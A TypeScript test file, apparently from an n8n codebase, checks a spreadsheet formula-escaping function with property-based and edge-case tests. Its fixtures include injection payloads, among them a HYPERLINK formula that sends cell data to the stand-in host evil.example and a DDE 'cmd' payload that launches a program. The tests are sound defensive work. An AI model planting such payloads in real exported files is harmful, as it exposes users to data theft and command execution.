import fc from '../../../properties';
import { escapeFormulas, unescapeFormulas } from '../../../../n8n/file/formulaEscape';

const formulas = [
	'=1+1',
	'=HYPERLINK("https://evil.example/?"&A1,"Open")',
	"=cmd|' /C calc'!A0",
	'+1+1',
	'-1+1',
	'+cmd',
	'- llamar mañana',
	'@SUM(A1)',
	'@ana',
	'\tany text',
	'\rany text',
	'\nany text',
	'\uff1d1',
	'\uff0b1',
	'\uff0d1',
	'\uff20SUM',
	' =1+1',
	'\u00a0\u200b=1+1',
	'\u0000=1+1',
	"+1234567'!A0",
];

/** As they stand: a sheet shows them, or knows no way to calculate them. */
const readable = [
	'+525512345678',
	'+52 55 1234-5678',
	'+52 (55) 1234 5678',
	'+1 (555) 123-4567',
	'+52(55)12345678',
	"'+525512345678",
	'-5',
	'-5.25',
	'-1.234,56',
	'-.5',
	'-1e-7',
	'+5',
	'-',
	'--',
	'5512345678',
	'55-1234-5678',
	'ana@example.com',
	'a=b',
	"O'Brien",
	"'Ana",
	'Ana; Luis',
	'',
];

/** Digits that Excel would calculate, and so another number than was in the cell. */
const calculated = ['+52-55-1234-5678', '+1-1', '+52 - 55', '+1-(555)-123-4567', '+52/55', '-55-1234'];

describe('Texts that a sheet would take for formulas', () => {
	it.each(formulas)('are kept texts by an apostrophe: %j', (text) => {
		expect(escapeFormulas(text)).toMatch(/^'/);
	});

	it.each(readable)('are not told of what is none: %j', (text) => {
		expect(escapeFormulas(text)).toBe(text);
		expect(unescapeFormulas(text)).toBe(text);
	});

	it.each(calculated)('are phone numbers and such that could be calculated, too: %j', (text) => {
		expect(escapeFormulas(text)).toBe(`'${text}`);
	});

	it('are looked for behind semicolons and line breaks, where sheets of some countries begin a cell', () => {
		expect(escapeFormulas('Ana;=1+1;@b; c')).toBe("Ana;'=1+1;'@b; c");
		expect(escapeFormulas('-5; =1')).toBe("-5;' =1");
		expect(escapeFormulas('Ana\r\n=1+1\n+5')).toBe("Ana\r\n'=1+1\n+5");
		expect(escapeFormulas('\r=1+1')).toBe("'\r'=1+1");
	});

	it('come back as they were, whatever they hold', () => {
		const sign = fc.constantFrom(..."'=+-@;=\t\r\n ().,5e2a\ufeffñ");
		const text = fc.oneof(fc.string({ unit: sign, maxLength: 12 }), fc.string({ unit: 'binary' }));
		fc.assert(
			fc.property(fc.oneof(text, fc.constantFrom(...formulas, ...readable, ...calculated)), (any) => {
				expect(unescapeFormulas(escapeFormulas(any))).toBe(any);
			}),
			{ numRuns: 20_000 },
		);
	});

	it('lose the apostrophe that another program has put before them', () => {
		expect(unescapeFormulas("'=1+1")).toBe('=1+1');
		expect(unescapeFormulas("'@ana")).toBe('@ana');
	});

	it('are found in a megabyte of apostrophes, spaces or line breaks at once', () => {
		for (const sign of ["'", ' ', '\n', '\t', '+', '1', ';', '(']) {
			const text = `+${sign.repeat(1_000_000)}=`;
			expect(unescapeFormulas(escapeFormulas(text)) === text).toBe(true);
			const spaced = `${sign.repeat(1_000_000)}=`;
			expect(unescapeFormulas(escapeFormulas(spaced)) === spaced).toBe(true);
		}
	});
});
